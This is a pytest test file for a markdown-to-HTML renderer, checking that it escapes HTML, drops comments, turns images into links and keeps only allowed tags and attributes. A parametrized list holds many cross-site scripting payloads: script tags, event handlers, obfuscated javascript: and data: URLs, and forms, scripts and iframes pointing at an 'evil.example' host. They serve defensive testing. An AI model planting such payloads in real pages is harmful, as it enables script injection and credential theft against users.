from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from mining.markdown import _ALLOWED_TAGS, render_markdown


def test_code_blocks_kept_and_html_escaped():
    html = render_markdown("Hi <script>alert(1)</script>\n\n```python\nx = 1 < 2\n```")
    assert "<script>" not in html
    assert "&lt;script&gt;" in html
    assert '<pre><code class="language-python">x = 1 &lt; 2' in html


def test_dangerous_links_dropped_and_nul_removed():
    html = render_markdown("[x](javascript:alert(1)) [y](https://ok.example) a\x00b")
    assert 'href="javascript' not in html
    assert 'href="https://ok.example"' in html
    assert "\x00" not in html and "ab" in html


def test_images_become_links_so_no_third_party_host_sees_readers():
    html = render_markdown("trace: ![loss *curve*](https://example.org/plot.png)")

    assert "<img" not in html
    assert (
        '<a href="https://example.org/plot.png" rel="noopener noreferrer nofollow">'
        "[image: loss curve]</a>"
    ) in html


def test_image_with_a_script_url_loses_its_link():
    html = render_markdown("![x](javascript:alert(1))")

    assert "href" not in html
    assert "<img" not in html


# -- raw HTML: GitHub's tags render, nothing else becomes an element


class _Elements(HTMLParser):
    def __init__(self):
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser.found


def test_issue_template_comments_disappear():
    html = render_markdown(
        "<!-- Thank you for filing a bug report!\n\n"
        "Please fill in every section. -->\n\n"
        "## 🐛 Bug\n\n"
        "It hangs <!-- what did you expect? --> on import.\n"
    )

    assert "<!--" not in html and "--&gt;" not in html
    assert "Thank you" not in html and "what did you expect" not in html
    assert "<h2>🐛 Bug</h2>" in html
    assert "<p>It hangs  on import.</p>" in html


def test_details_summary_and_inline_tags_survive():
    html = render_markdown(
        "<details open>\n<summary>Environment</summary>\n\n"
        "```\ntorch==2.3.0\n```\n\n"
        "</details>\n\n"
        "Press <kbd>Ctrl</kbd>+<kbd>C</kbd>: H<sub>2</sub>O, x<sup>2</sup>,<br>"
        "<b>bold</b> <i>italic</i>\n"
    )

    assert '<details open="">\n<summary>Environment</summary>' in html
    assert "<pre><code>torch==2.3.0\n</code></pre>\n</details>" in html
    assert "<kbd>Ctrl</kbd>+<kbd>C</kbd>" in html
    assert "H<sub>2</sub>O, x<sup>2</sup>,<br><b>bold</b> <i>italic</i>" in html


def test_text_that_looks_like_a_tag_stays_readable():
    html = render_markdown("fails for Tensor<float> and std::vector<int>, not <T>\n")

    assert "Tensor&lt;float&gt; and std::vector&lt;int&gt;, not &lt;T&gt;" in html


def test_html_images_become_links_like_markdown_images():
    html = render_markdown(
        '<img src="https://example.org/plot.png" alt="loss &amp; <b>curve</b>" width="300">\n\n'
        "<IMG SRC='https://example.org/b.png'>\n\n"
        '<img alt="no source">'
    )

    assert "<img" not in html.lower()
    assert (
        '<a href="https://example.org/plot.png" rel="noopener noreferrer nofollow">'
        "[image: loss &amp; &lt;b&gt;curve&lt;/b&gt;]</a>"
    ) in html
    assert (
        '<a href="https://example.org/b.png" rel="noopener noreferrer nofollow">'
        "[image: https://example.org/b.png]</a>"
    ) in html
    assert "[image: no source]" in html


def test_only_a_language_class_is_kept_on_code():
    html = render_markdown('<code class="btn primary">x</code>\n\n```python\ny\n```')

    assert "<p><code>x</code></p>" in html
    assert '<code class="language-python">' in html


DANGEROUS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<<script>script>alert(1)<</script>/script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "x <script>alert(1)</script> inline",
    "<details>\n<summary>x</summary>\n<script>alert(1)</script>\n</details>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    "<b onclick=alert(1)>b</b>",
    "<details open ontoggle=alert(1)><summary onclick=alert(1)>s</summary></details>",
    "<a href=https://ok.example onclick='alert(1)' onmouseover=alert(1)>x</a>",
    "<p style='position:fixed;inset:0' class=btn>cover</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A;&#x61;&#x76;&#x61;script:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](jav&#x61;script:alert(1))",
    "[x](data:text/html,hi)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "<iframe src=https://evil.example></iframe>",
    "<IFRAME SRC=https://evil.example>",
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<svg/onload=alert(1)>",
    "<SvG><script>alert(1)</script></SvG>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<style>body{display:none}</style>",
    "<STYLE>@import 'https://evil.example/x.css';</STYLE>",
    "<form action=https://evil.example><input name=p><button>go</button></form>",
    "<FoRm><input type=password></FoRm>",
    "<object data=https://evil.example/x.swf></object><embed src=x>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
]
FORBIDDEN_ELEMENTS = ("script", "iframe", "svg", "style", "form", "math", "object", "embed")


@pytest.mark.parametrize("payload", DANGEROUS)
def test_dangerous_html_never_becomes_an_element_or_attribute(payload):
    html = render_markdown(payload)

    for tag, attributes in elements(html):
        assert tag in _ALLOWED_TAGS, (tag, html)
        for name, value in attributes.items():
            assert not name.startswith("on") and name not in ("style", "src"), (name, html)
            if name == "href":
                assert urlsplit(value).scheme in ("", "http", "https", "mailto"), (value, html)
            if name == "class":
                assert value.startswith("language-"), (value, html)
    for forbidden in FORBIDDEN_ELEMENTS:
        assert f"<{forbidden}" not in html.lower(), (forbidden, html)


def test_headings_move_down_under_a_pages_own_to_h6_at_most():
    text = "# One\n\n## Two\n\n###### Six\n\nBody"
    assert render_markdown(text).startswith("<h1>One</h1>")
    html = render_markdown(text, heading_offset=2)
    assert "<h3>One</h3>" in html and "<h4>Two</h4>" in html and "<h6>Six</h6>" in html
    assert "<h1" not in html and "<h2" not in html and "<p>Body</p>" in html
